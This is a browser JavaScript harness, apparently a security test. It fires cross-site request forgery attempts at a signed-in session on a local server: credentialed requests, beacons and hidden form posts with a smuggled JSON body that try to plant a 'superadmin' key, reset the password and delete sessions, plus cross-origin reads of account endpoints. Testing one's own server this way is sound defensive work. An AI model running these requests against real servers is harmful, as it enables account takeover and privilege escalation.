/*
 * What a page can do to a server where its visitor is signed in. Runs in the browser; gives how many requests it caused.
 */

const JSON_BODY = '{"name":"planted","permissions":["superadmin"],"password":"PASSWORD","key":"PASSWORD"}';
const CHANGES = [
  "/logout",
  "/login/password",
  "/api/v1/keys",
  "/api/v1/key/initialize",
  "/api/v1/me/reauthenticate",
];
const READS = ["/api/v1/me", "/api/v1/keys", "/sse"];
const ENCODINGS = ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"];

const settled = (promise) =>
  promise.then(
    () => true,
    () => true,
  );
const firstEvent = (target, names) =>
  new Promise((resolve) => {
    for (const name of names) target.addEventListener(name, resolve, { once: true });
  });

function addElement(name, attributes) {
  const element = document.createElement(name);
  const done = firstEvent(element, ["load", "error"]);
  Object.assign(element, attributes);
  document.body.append(element);
  return done;
}

function submitForm(url, enctype) {
  const frame = document.createElement("iframe");
  frame.name = `frame-${Math.random()}`;
  document.body.append(frame);
  const form = document.createElement("form");
  Object.assign(form, { method: "post", action: url, enctype, target: frame.name });
  const field = document.createElement("input");
  Object.assign(field, { name: `${JSON_BODY.slice(0, -1)},"x":"`, value: '"}' });
  form.append(field);
  document.body.append(form);
  const done = firstEvent(frame, ["load"]);
  form.submit();
  return done;
}

/** `server` is an origin such as `http://127.0.0.1:8441`. */
async function attackSession(server) {
  const json = { "content-type": "application/json" };
  const ask = (path, init) => settled(fetch(server + path, { credentials: "include", ...init }));
  const tried = [];
  for (const path of CHANGES) {
    const post = { method: "POST", body: JSON_BODY };
    tried.push(ask(path, { ...post, mode: "no-cors", headers: { "content-type": "text/plain" } }));
    tried.push(ask(path, { ...post, headers: json }));
    tried.push(ask(path, { ...post, headers: json, keepalive: true }));
    tried.push(ask(path, { method: "POST", mode: "no-cors" }));
    tried.push(Promise.resolve(navigator.sendBeacon(server + path, JSON_BODY)));
    for (const enctype of ENCODINGS) tried.push(submitForm(server + path, enctype));
  }
  tried.push(ask("/api/v1/me/sessions", { method: "DELETE" }));
  tried.push(ask("/api/v1/me/password", { method: "PUT", headers: json, body: JSON_BODY }));
  for (const path of READS) {
    tried.push(ask(path, { mode: "cors" }), ask(path, { mode: "no-cors" }));
    tried.push(addElement("img", { src: server + path }));
    tried.push(addElement("script", { src: server + path }));
    tried.push(addElement("iframe", { src: server + path }));
    tried.push(firstEvent(new EventSource(server + path, { withCredentials: true }), ["open", "error"]));
    tried.push(firstEvent(new WebSocket(server.replace("http:", "ws:") + path), ["open", "error"]));
  }
  await Promise.all(tried);
  return tried.length;
}

globalThis.attackSession = attackSession;
